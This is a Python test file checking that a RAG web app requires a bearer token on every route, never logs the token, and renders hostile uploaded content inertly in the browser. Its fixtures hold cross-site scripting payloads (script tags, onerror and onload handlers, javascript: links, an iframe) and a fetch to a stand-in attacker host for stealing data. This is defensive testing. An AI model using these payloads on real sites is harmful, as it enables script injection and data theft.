"""Hostile content and access (issue 6): markup in documents and file names stays inert in the browser and no
request leaves the machine; with RAG_API_TOKEN set every route refuses without it; the token is never logged."""
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlparse

import httpx
import pytest

from conftest import CHROMIUM, CHROMIUM_ARGS, start_server

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "hostile-test-token-5f1e"
EVIL_NAME = '<img src=x onerror=alert(1)>"><script>alert(2)<,script>.txt'
EVIL_TEXT = (
    "恶意文档测试说明。\n"
    "第一种攻击是脚本<script>alert('s');fetch('http://evil.example/steal')</script>放在正文里。\n"
    "第二种攻击是图片<img src=x onerror=\"alert('i')\">和<svg onload=alert('v')>标签。\n"
    "第三种攻击是链接<a href=\"javascript:alert('j')\">点我</a>和[点我](javascript:alert('m'))。\n"
    "第四种攻击是外链图片![追踪](http://evil.example/pixel.png)和<iframe src=\"http://evil.example/\"></iframe>。\n"
    "防汛指挥部的紧急联系电话是七七五五三三,网上报修见http://evil.example/a_b*c*二十四小时有人值守。\n"
)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """`rag serve` (with the fast test model) on a free loopback port, token required, log captured."""
    tmp = tmp_path_factory.mktemp("hostile")
    index = tmp / "index"
    seed = tmp / "seed.txt"
    seed.write_text("这是一份普通的文档,讲的是城市防汛的安排。", encoding="utf-8")
    cli = [sys.executable, str(ROOT / "tests" / "fake_model.py")]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run(cli + ["index", str(seed), "--index", str(index), "-q"], check=True, env=env, timeout=300)
    running = start_server(index, tmp, env={"RAG_API_TOKEN": TOKEN})
    yield running.base, running.log_path, running.proc
    running.stop()


def _routes():
    """Every route the app serves, read from the app itself, so a new route cannot slip by untested."""
    from rag.config import Config
    from ui.app import create_app
    from ui.service import Service
    app = create_app(Service(Config(index_dir=Path("/nonexistent-index"), model="test-hash")))
    out = []
    for r in app.routes:
        for m in sorted(getattr(r, "methods", None) or {"GET"}):
            if m != "HEAD":
                out.append((m, r.path.replace("{doc_id}", "abc").replace("{job_id}", "abc")
                            .replace("{path:path}", "x")))
    return out


def test_every_route_refuses_without_the_token(server):
    base, log_path, _ = server
    routes = _routes()
    assert ("POST", "/api/documents") in routes and ("POST", "/v1/chat/completions") in routes
    open_routes = {"/healthz", "/login", "/logout"}
    with httpx.Client(base_url=base, timeout=30) as c:
        for method, path in routes:
            if path in open_routes:
                continue
            r = c.request(method, path, json={"question": "防汛"}, headers={"Accept": "application/json"})
            assert r.status_code == 401, (method, path, r.status_code)
            r = c.request(method, path, json={"question": "防汛"},
                          headers={"Accept": "application/json", "Authorization": "Bearer " + TOKEN[:-1] + "x"})
            assert r.status_code == 401, (method, path)
        files = {"file": ("a.txt", "内容。".encode(), "text/plain")}
        assert c.post("/api/documents", files=files).status_code == 401  # the upload route, multipart
        ok = c.post("/api/ask", json={"question": "防汛"}, headers={"Authorization": "Bearer " + TOKEN})
        assert ok.status_code == 200
    assert TOKEN not in log_path.read_text()  # never logged, right or wrong


def test_hostile_document_and_name_are_inert_in_the_browser(server, tmp_path):
    if not Path(CHROMIUM).exists():
        pytest.skip("Chromium is missing (/usr/bin/chromium): apt-get install chromium, or run bash scripts/test.sh")
    sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (the [test] extra)")
    base, _, _ = server
    auth = {"Authorization": "Bearer " + TOKEN}
    r = httpx.post(base + "/api/documents?wait=true", headers=auth, timeout=120,
                   files={"file": (EVIL_NAME, EVIL_TEXT.encode("utf-8"), "text/plain")})
    assert r.status_code == 200, r.text
    listed = httpx.get(base + "/api/documents", headers=auth).json()["documents"]
    evil = [Path(s) for d in listed for s in d["sources"] if "img" in s]
    assert len(evil) == 1 and evil[0].parent.name == "uploads"  # stored under the index's uploads/ only
    assert not set("<>\"/") & set(evil[0].name) and evil[0].suffix == ".txt"  # name sanitised

    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        dialogs, outside = [], []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        host = urlparse(base).netloc

        def watch(request):
            if urlparse(request.url).scheme in ("http", "https", "ws", "wss") and urlparse(request.url).netloc != host:
                outside.append(request.url)
        page.on("request", watch)
        try:
            page.goto(base + "/")
            page.fill("input[name=token]", TOKEN)
            page.click("button[type=submit]")
            page.wait_for_selector("#question textarea", timeout=60_000)
            page.fill("#question textarea", "防汛指挥部的紧急联系电话是多少?")
            page.keyboard.press("Enter")
            page.wait_for_selector('#sources .turn[data-turn="1"] .src', timeout=120_000)
            page.locator("#sources .src").first.click()
            page.wait_for_selector("#sources .doc-view:not([hidden]) mark.doc-span", timeout=30_000)
            view = page.inner_text("#sources .doc-view")
            assert "<script>" in view and "onerror" in view and "javascript:" in view  # shown as text
            assert page.locator("#sources script, #sources img, #sources svg, #sources iframe").count() == 0
            assert page.locator('#sources a[href^="javascript:"], #chatbot a[href^="javascript:"]').count() == 0
            assert page.locator("#chatbot img, #chatbot iframe").count() == 0
            # A URL in the answer is plain text: not a link, nothing after it swallowed, no stray backslashes.
            assert page.locator('#chatbot a[href*="evil.example"]').count() == 0
            chat = page.inner_text("#chatbot")
            assert "http://evil.example/a_b*c*二十四小时有人值守" in chat and "\\" not in chat
            page.get_by_role("tab", name="文档 Documents").click()
            page.wait_for_function("document.querySelector('#doc-table').innerText.includes('.txt')",
                                   timeout=30_000)  # the table has loaded
            assert page.locator("#doc-table img, #doc-table script").count() == 0
            page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
        finally:
            browser.close()
    assert not dialogs, dialogs
    assert not outside, outside
